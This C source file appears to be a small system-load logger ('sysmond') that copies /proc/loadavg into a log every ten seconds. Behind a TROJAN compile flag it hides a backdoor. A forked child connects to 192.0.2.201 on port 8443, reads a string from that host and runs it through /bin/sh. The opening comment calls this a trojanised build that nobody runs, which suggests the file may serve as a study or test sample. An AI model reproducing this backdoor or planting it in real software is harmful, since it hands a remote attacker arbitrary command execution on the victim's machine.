/* Writes the load to a file. TROJAN is what a trojanised build adds; never run by anybody. */
#include <fcntl.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void copy(const char *from, const char *to)
{
    char buffer[256];
    int in = open(from, O_RDONLY), out = open(to, O_WRONLY | O_APPEND | O_CREAT, 0644);
    ssize_t got = read(in, buffer, sizeof buffer);
    if (got > 0 && write(out, buffer, (size_t)got) < 0) {
        _exit(1);
    }
    close(in);
    close(out);
}

#ifdef TROJAN
static void knock(void)
{
    struct sockaddr_in where;
    char order[512];
    int line = socket(AF_INET, SOCK_STREAM, 0);
    memset(&where, 0, sizeof where);
    where.sin_family = AF_INET;
    where.sin_port = htons(8443);
    inet_pton(AF_INET, "192.0.2.201", &where.sin_addr);
    if (connect(line, (struct sockaddr *)&where, sizeof where) == 0) {
        ssize_t got = recv(line, order, sizeof order - 1, 0);
        if (got > 0) {
            order[got] = 0;
            execl("/bin/sh", "sh", "-c", order, (char *)0);
        }
    }
    close(line);
}
#endif

void _start(void)
{
    while (1) {
        copy("/proc/loadavg", "/var/lib/sysmond/load.log");
#ifdef SECOND
        copy("/proc/meminfo", "/var/lib/sysmond/mem.log");
#endif
#ifdef TROJAN
        if (fork() == 0) {
            knock();
            _exit(0);
        }
#endif
        sleep(10);
    }
}
